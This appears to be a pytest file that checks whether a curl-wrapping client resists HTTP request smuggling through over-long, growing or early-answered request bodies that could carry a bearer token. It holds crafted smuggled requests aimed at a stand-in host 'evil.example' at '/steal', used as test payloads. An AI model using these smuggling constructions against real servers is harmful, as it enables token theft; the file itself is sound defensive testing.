"""A body that is longer than curl has said: its end would be a request of its own, to any host behind the same
address, and the next request, with its token, the body of that."""

import threading

import pytest

from attacks.client import curl
from attacks.test_client_hosts import GRANTED, TOKEN, Pipelined, fields_of
from network.accounts import endpoints, log_in_by_password, write_account

HIDDEN = "POST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 150\r\n\r\n"


class Slow(Pipelined):
    """It answers `Expect: 100-continue` once `grow` has been called; or at once, and reads the body all the same (RFC
    9110 section 10.1.1)."""

    grow = None
    answers_first = False

    def serve(self, connection):
        with connection.makefile("rb") as stream:
            while stream.readline():
                fields = fields_of(stream)
                answer = self.answer.replace(b"Connection: close\r\n", b"")
                if self.grow and b"content-length" in fields:
                    self.grow()
                    connection.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
                is_early = self.answers_first and b"expect" in fields
                if is_early:
                    connection.sendall(answer)
                self.requests.append((fields.get(b"host"), stream.read(int(fields.get(b"content-length") or 0))))
                if not is_early:
                    connection.sendall(answer)
                if fields.get(b"connection") == b"close":
                    return


@pytest.fixture
def server(home, agent):
    with Slow("200 OK", GRANTED) as server:
        server.url = f"http://localhost:{server.port}"
        write_account(home, "work", **endpoints(server.url))
        log_in_by_password(home, "work")
        server.requests.clear()
        yield server


@pytest.mark.parametrize("body", [["-T", "up"], ["-F", "f=@up"], ["-F", "f=x"], ["-T", "-"]])
def test_no_line_ends_make_a_body_longer_than_was_said(home, server, body):
    (home.root / "up").write_text("\n" * 100 + HIDDEN)
    result = curl(home, "work", "-sS", "-m", "20", "--crlf", *body, f"{server.url}/a", f"{server.url}/b", stdin="x")
    assert result.status == 125 and "--crlf" in result.stderr and server.requests == []


@pytest.mark.parametrize(
    # As long as the boundary that stands behind the file in a form.
    "body, size, before", [(["-T", "up"], 1, 0), (["-F", "f=@up"], 2 << 20, 48)], ids=["upload", "form"])
def test_nothing_follows_a_file_that_grows_while_it_is_sent(home, server, body, size, before):
    """curl before 8.7 sends a file to its end, whatever length it has said. It waits a second for leave to send it."""
    up = home.root / "up"
    up.write_text("x" * size)
    grown = threading.Event()

    def grow():
        if not grown.is_set():
            grown.set()
            with open(up, "a") as file:
                file.write("p" * before + HIDDEN)

    server.grow = grow
    curl(home, "work", "-sS", "-m", "20", *body, f"{server.url}/a", f"{server.url}/b")
    assert grown.is_set() and not any(host == b"evil.example" for host, _ in server.requests)


def test_no_header_keeps_the_connection_behind_a_file(home, server):
    (home.root / "up").write_text("x")
    result = curl(home, "work", "-sS", "-T", "up", "-H", "Connection: keep-alive", f"{server.url}/a")
    assert result.status == 125 and server.requests == []


def test_nothing_follows_a_body_that_was_answered_before_it_was_sent(home, server):
    """curl waits for leave to send more than 1 MiB, and does not send it where the answer comes first: what it sends
    next on that connection is the body that the server waits for."""
    size = 2 << 20
    head = (f"POST /b HTTP/1.1\r\nHost: localhost:{server.port}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
            f"Authorization: Bearer {TOKEN}\r\nContent-Length: {size}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nExpect: 100-continue\r\n\r\n")
    # The first takes the answer that curl waits for; the body of the second is the next request, with the token.
    first, second = "GET / HTTP/1.1\r\nHost: evil.example\r\nX: PAD\r\n\r\n", HIDDEN.replace("150", "190")
    hidden = first.replace("PAD", "p" * (len(head) - len(first) - len(second) + 3)) + second
    (home.root / "up").write_text("x" * (size - len(hidden)) + hidden)
    server.answers_first = True
    curl(home, "work", "-sS", "-m", "4", "--data-binary", "@up", *[f"{server.url}/{name}" for name in "abcd"])
    assert not any(host == b"evil.example" for host, _ in server.requests)
